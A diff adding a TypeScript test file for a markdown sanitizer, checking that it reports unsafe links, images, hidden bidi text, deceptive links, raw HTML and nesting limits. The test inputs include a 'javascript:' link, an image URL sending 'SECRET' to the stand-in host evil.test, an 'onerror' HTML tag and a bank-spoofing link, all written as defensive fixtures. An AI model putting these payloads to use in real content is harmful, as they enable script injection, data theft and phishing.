@@ -1,0 +1,75 @@
+import { toSafeTree, type Finding } from '@glovebox/markdown'
+import fc from 'fast-check'
+import { describe, expect, it } from 'vitest'
+import { unsafeText } from './unsafeText.js'
+
+function findingsIn(unsafe: string): Finding[] {
+  const findings: Finding[] = []
+  toSafeTree(unsafe, { onFinding: (finding) => findings.push(finding) })
+  return findings
+}
+
+describe('a finding', () => {
+  it('has a fixed word, a block and a short visible excerpt, whatever the text', () => {
+    fc.assert(
+      fc.property(unsafeText, (unsafe) => {
+        for (const { reason, block, excerpt } of findingsIn(unsafe)) {
+          expect(reason).toMatch(/^[a-z-]{1,20}$/)
+          expect(block).toBeGreaterThanOrEqual(0)
+          expect(excerpt).toMatch(/^[\x20-\x7e\p{L}\p{N}\p{P}\p{S}]{0,80}$/u)
+        }
+      }),
+      { numRuns: 300 },
+    )
+  })
+
+  it.each([
+    {
+      name: 'a link',
+      unsafe: 'a\n\nb\n\n[x](javascript:alert(1))',
+      safe: { kind: 'link', reason: 'scheme', block: 2, excerpt: 'javascript:alert(1)' },
+    },
+    {
+      name: 'an image',
+      unsafe: '![x](https://evil.test/?q=SECRET)',
+      safe: {
+        kind: 'image',
+        reason: 'not-allowed',
+        block: 0,
+        excerpt: 'https://evil.test/?q=SECRET',
+      },
+    },
+    {
+      name: 'hidden text',
+      unsafe: '# a\n\nb\u202ec',
+      safe: { kind: 'hidden-text', reason: 'bidi', block: 1, excerpt: '\\u{202E}' },
+    },
+    {
+      name: 'a deceptive link',
+      unsafe: '[bank.com](https://evil.test)',
+      safe: {
+        kind: 'deceptive-link',
+        reason: 'host',
+        block: 0,
+        excerpt: 'bank.com → https://evil.test/',
+      },
+    },
+    {
+      name: 'HTML',
+      unsafe: 'a\n\n<img onerror=a>',
+      safe: { kind: 'html', reason: 'tag', block: 1, excerpt: '<img onerror=a>' },
+    },
+    {
+      name: 'a limit',
+      unsafe: 'a\n\n' + '>'.repeat(40),
+      safe: { kind: 'limit', reason: 'depth', block: 1, excerpt: '>'.repeat(40) },
+    },
+  ])('of $name says what, why and where', ({ unsafe, safe }) => {
+    expect(findingsIn(unsafe)).toEqual([safe])
+  })
+
+  it('of a text without end is not the last of millions', () => {
+    const findings = findingsIn('![x](https://evil.test)\n\n'.repeat(1_500))
+    expect([findings.length, findings.at(-1)?.reason]).toEqual([1_000, 'findings'])
+  })
+})
